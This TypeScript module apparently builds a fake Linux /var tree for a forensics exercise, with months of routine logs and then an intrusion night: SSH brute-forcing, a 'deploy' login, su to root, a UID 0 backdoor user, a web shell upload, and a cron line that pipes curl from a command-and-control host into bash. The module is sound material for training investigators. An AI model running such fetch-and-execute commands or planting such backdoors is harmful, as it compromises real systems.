/** /var: logs of two ordinary months and of the night of the intrusion, cloud-init's and the package manager's state. */
import { type Entry, file, symlink } from "./entry";
import { installedPackages } from "./software";
import { story, thatNight } from "./story";
import { encodeLoginRecords, type LoginRecord } from "./utmp";

const deployed = { modified: story.deployed };
const minute = 60_000;
const iso = (time: number): string => new Date(time).toISOString().replace(".000Z", "Z");

/** Weekday log-ins of the administrator, one a week. */
const ordinarySessions = Array.from({ length: 6 }, (_, week) => Date.parse(story.deployed) + week * 7 * 24 * 60 * minute);
/** The guessing: one attempt every five seconds, over the names below. */
const guessedNames = ["root", "admin", "ubuntu", "oracle", "test", "deploy", "git", "postgres"];
export const failedLogins: readonly LoginRecord[] = Array.from({ length: 42 }, (_, index) => ({
    type: "login",
    pid: 20110 + index,
    line: "ssh:notty",
    user: guessedNames[index % guessedNames.length] ?? "root",
    host: story.attacker,
    at: iso(Date.parse(story.intrusion) + index * 5_000),
}));
/** The attempt that succeeded. */
export const intruderSession = { user: "deploy", pid: 20177, at: thatNight("03:15:02"), left: thatNight("04:24:47") } as const;

export const wtmpRecords: readonly LoginRecord[] = [
    { type: "boot", pid: 0, line: "~", user: "reboot", host: "6.1.150-174.273.amzn2023.x86_64", at: story.deployed },
    ...ordinarySessions.flatMap((start, week): LoginRecord[] => [
        { type: "user", pid: 3100 + week, line: "pts/0", user: "ec2-user", host: story.administrator, at: iso(start + 5 * minute) },
        { type: "dead", pid: 3100 + week, line: "pts/0", user: "", host: "", at: iso(start + 35 * minute) },
    ]),
    { type: "user", pid: intruderSession.pid, line: "pts/1", user: intruderSession.user, host: story.attacker, at: intruderSession.at },
    { type: "dead", pid: intruderSession.pid, line: "pts/1", user: "", host: "", at: intruderSession.left },
];

/** "Nov 20 03:11:07 ip-10-20-1-47", as rsyslog's traditional format writes it. */
function syslogPrefix(at: string): string {
    const date = new Date(at);
    const month = date.toLocaleString("en-US", { month: "short", timeZone: "UTC" });
    return `${month} ${String(date.getUTCDate()).padStart(2)} ${at.slice(11, 19)} ip-10-20-1-47`;
}

const secureLines: readonly string[] = [
    ...ordinarySessions.map(
        (start, week) =>
            `${syslogPrefix(iso(start + 5 * minute))} sshd[${3100 + week}]: Accepted publickey for ec2-user from ${story.administrator} port 5${week}022 ssh2: ED25519 SHA256:rehearsal`,
    ),
    ...failedLogins.map((login, index) => {
        const known = login.user === "root" || login.user === "deploy";
        return `${syslogPrefix(login.at)} sshd[${login.pid}]: Failed password for ${known ? "" : "invalid user "}${login.user} from ${login.host} port ${41000 + index} ssh2`;
    }),
    `${syslogPrefix(intruderSession.at)} sshd[${intruderSession.pid}]: Accepted password for deploy from ${story.attacker} port 41977 ssh2`,
    `${syslogPrefix(intruderSession.at)} sshd[${intruderSession.pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)`,
    `${syslogPrefix(thatNight("03:16:20"))} sudo[20240]:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart httpd`,
    `${syslogPrefix(thatNight("03:16:58"))} su[20251]: pam_unix(su-l:session): session opened for user root(uid=0) by deploy(uid=1001)`,
    `${syslogPrefix(thatNight("03:31:40"))} useradd[20388]: new user: name=sysadm, UID=0, GID=0, home=/var/lib/sysadm, shell=/bin/bash, from=/dev/pts/1`,
    `${syslogPrefix(intruderSession.left)} sshd[${intruderSession.pid}]: pam_unix(sshd:session): session closed for user deploy`,
];

/** Ordinary requests of the web application's customers. */
const accessLines = Array.from({ length: 180 }, (_, index) => {
    const at = new Date(Date.parse(story.lastRelease) + index * 61 * minute);
    const month = at.toLocaleString("en-US", { month: "short", timeZone: "UTC" });
    const stamp = `${String(at.getUTCDate()).padStart(2, "0")}/${month}/${at.getUTCFullYear()}:${at.toISOString().slice(11, 19)} +0000`;
    return `192.0.2.${20 + (index % 100)} - - [${stamp}] "GET /orders/${1000 + index} HTTP/1.1" 200 ${2000 + index} "-" "Mozilla/5.0"`;
});
const webShellLines = ["04:03:11", "04:03:52", "04:06:07"].map(
    (clock) =>
        `${story.attacker} - - [20/Nov/2026:${clock} +0000] "POST /uploads/avatar-8841.php HTTP/1.1" 200 512 "-" "<script>document.title='owned'</script>"`,
);

const cloudInit: readonly Entry[] = [
    symlink("/var/lib/cloud/instance", `/var/lib/cloud/instances/${story.instanceId}`, deployed),
    file(
        `/var/lib/cloud/instances/${story.instanceId}/user-data.txt`,
        ["#cloud-config", "packages: [httpd, php8.2, mariadb105-server, rsyslog, cronie]", `hostname: ${story.hostname}`],
        { ...deployed, mode: 0o600 },
    ),
    file(`/var/lib/cloud/instances/${story.instanceId}/boot-finished`, [`4.31 - ${story.deployed} - v. 22.2.2`], deployed),
    file(`/var/lib/cloud/instances/${story.instanceId}/datasource`, ["DataSourceEc2: DataSourceEc2Local"], deployed),
    file("/var/lib/cloud/data/instance-id", [story.instanceId], deployed),
    file(
        "/var/log/cloud-init.log",
        [
            `${story.deployed} - handlers.py[DEBUG]: start: init-network/check-cache`,
            `${story.deployed} - cc_ssh.py[DEBUG]: Using root keys`,
        ],
        deployed,
    ),
    file("/var/log/cloud-init-output.log", [`Cloud-init v. 22.2.2 running 'modules:final' at ${story.deployed}.`, "Complete!"], deployed),
];

/** Everything under /var except spools of the artefacts. */
export const logTree: readonly Entry[] = [
    ...cloudInit,
    file("/var/log/secure", secureLines, { modified: intruderSession.left, mode: 0o600 }),
    file("/var/log/wtmp", encodeLoginRecords(wtmpRecords), { modified: intruderSession.left, mode: 0o664 }),
    file("/var/log/btmp", encodeLoginRecords(failedLogins), { modified: thatNight("03:14:32"), mode: 0o660 }),
    file(
        "/var/log/messages",
        ordinarySessions.map((start) => `${syslogPrefix(iso(start))} systemd[1]: Started Daily rotation of log files.`),
        { modified: thatNight("03:50:00"), mode: 0o600 },
    ),
    file(
        "/var/log/cron",
        [
            `${syslogPrefix(thatNight("03:01:01"))} CROND[20011]: (root) CMD (run-parts /etc/cron.hourly)`,
            `${syslogPrefix(thatNight("03:25:01"))} CROND[20331]: (root) CMD (curl -fsSL http://${story.commandAndControl}/kw.sh | bash)`,
        ],
        { modified: thatNight("04:20:01"), mode: 0o600 },
    ),
    file(
        "/var/log/dnf.rpm.log",
        installedPackages.map((name) => `${story.imageBuilt} SUBDEBUG Installed: ${name}`),
        { modified: story.deployed },
    ),
    file(
        "/var/log/audit/audit.log",
        [
            `type=USER_LOGIN msg=audit(${Date.parse(intruderSession.at) / 1000}.118:913): pid=${intruderSession.pid} uid=0 auid=1001 msg='op=login acct="deploy" addr=${story.attacker} res=success'`,
        ],
        { modified: intruderSession.at, mode: 0o600 },
    ),
    file(
        "/var/log/amazon/ssm/amazon-ssm-agent.log",
        [`${story.deployed.replace("T", " ").replace("Z", "")} INFO [amazon-ssm-agent] Starting Core Agent`],
        deployed,
    ),
    file("/var/log/httpd/access_log", [...accessLines, ...webShellLines], { modified: thatNight("04:06:07") }),
    file(
        "/var/log/httpd/error_log",
        [`[${thatNight("04:02:40")}] [php:warn] [client ${story.attacker}:41980] PHP Warning: move_uploaded_file(): avatar-8841.php`],
        { modified: thatNight("04:02:40") },
    ),
    file("/var/spool/anacron/cron.daily", ["20261119"], { modified: "2026-11-19T03:22:01Z", mode: 0o600 }),
    file("/var/lib/chrony/drift", ["          -7.012345             0.018211"], { modified: thatNight("03:00:10"), uid: 993, gid: 990 }),
];
